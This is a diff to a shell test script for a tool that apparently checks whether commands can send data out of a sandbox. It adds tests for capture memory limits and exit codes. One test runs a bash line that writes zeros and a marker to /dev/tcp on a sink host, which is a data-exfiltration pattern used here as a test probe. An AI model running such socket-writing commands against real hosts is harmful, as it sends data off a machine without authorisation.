@@ -80,7 +80,25 @@ else
 	fail=$((fail + 1))
 fi
 
+# A witness that fails makes the cell INCONCLUSIVE (exit 3), never a verdict:
+# a capture given 4 KiB for 200 KB of traffic overflows, although the sink
+# saw the marker.
+out=$tmp/overflow.json
+"$PARITY_BIN" attack exec --profile none --no-control --json --capture-max-bytes 4096 -- \
+	bash -c 'head -c 200000 /dev/zero > /dev/tcp/$PARITY_SINK_V4/80; echo "$PARITY_MARKER" > /dev/tcp/$PARITY_SINK_V4/80' \
+	>"$out" 2>/dev/null
+rc=$?
+got=$($PY -c 'import json,sys; r=json.load(open(sys.argv[1])); print(r["verdict"], "limit" if "capture memory limit" in r["reason"] else r["reason"])' "$out" 2>/dev/null)
+if [ $rc -eq 3 ] && [ "$got" = "INCONCLUSIVE limit" ]; then
+	echo "ok   a capture over its memory limit: INCONCLUSIVE, exit 3"
+else
+	echo "FAIL a capture over its memory limit: exit $rc, $got"
+	fail=$((fail + 1))
+fi
+
 # Usage errors exit 2; a judgement exits 0.
+"$PARITY_BIN" attack exec --profile none --capture-max-bytes 12 -- true >/dev/null 2>&1
+[ $? -eq 2 ] && echo "ok   --capture-max-bytes 12: exit 2" || { echo "FAIL --capture-max-bytes 12: not exit 2"; fail=$((fail + 1)); }
 "$PARITY_BIN" attack exec --profile platform >/dev/null 2>&1
 [ $? -eq 2 ] && echo "ok   no command: exit 2" || { echo "FAIL no command: not exit 2"; fail=$((fail + 1)); }
 "$PARITY_BIN" attack exec --profile nope -- true >/dev/null 2>&1
